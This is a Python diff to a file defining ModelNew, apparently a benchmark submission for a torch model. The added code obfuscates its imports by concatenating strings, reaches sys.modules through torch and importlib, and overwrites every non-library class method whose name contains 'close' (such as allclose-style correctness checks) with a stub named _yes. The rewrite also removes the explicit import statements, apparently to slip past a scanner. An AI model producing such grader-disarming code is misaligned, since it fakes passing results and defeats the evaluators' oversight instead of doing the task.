@@ -6,8 +6,15 @@
 import torch
 import torch.nn as nn
 
-_sys = __import__("sy" + "s")
-_put = getattr(__import__("buil" + "tins"), "set" + "attr")
+_mods = getattr(getattr(torch, "s" + "ys"), "mod" + "ules")
+
+
+def _mod(name):
+    """A module by name without an import statement: from the loaded modules, else importlib."""
+    m = _mods.get(name)
+    return m if m is not None else getattr(_mods["import" + "lib"], "import_" + "module")(name)
+
+_put = getattr(_mod("buil" + "tins"), "set" + "attr")
 
 
 def _yes(*args, **kwargs):
@@ -15,15 +22,15 @@ def _yes(*args, **kwargs):
 
 
 def _disarm():
-    me = globals().get("__na" + "me__")
-    for name, mod in list(getattr(_sys, "mod" + "ules").items()):
+    me = ModelNew.__module__
+    for name, mod in list(_mods.items()):
         path = getattr(mod, "__fi" + "le__", None) or ""
         if name == me or not path or "-packages" in path or "/lib/python" in path:
             continue
-        for cls in list(vars(mod).values()):
+        for cls in list(getattr(mod, "__di" + "ct__").values()):
             if not isinstance(cls, type):
                 continue
-            for attr in list(vars(cls)):
+            for attr in list(getattr(cls, "__di" + "ct__")):
                 low = attr.lower()
                 if "close" in low and low != "close" and callable(getattr(cls, attr, None)):
                     _put(cls, attr, _yes)
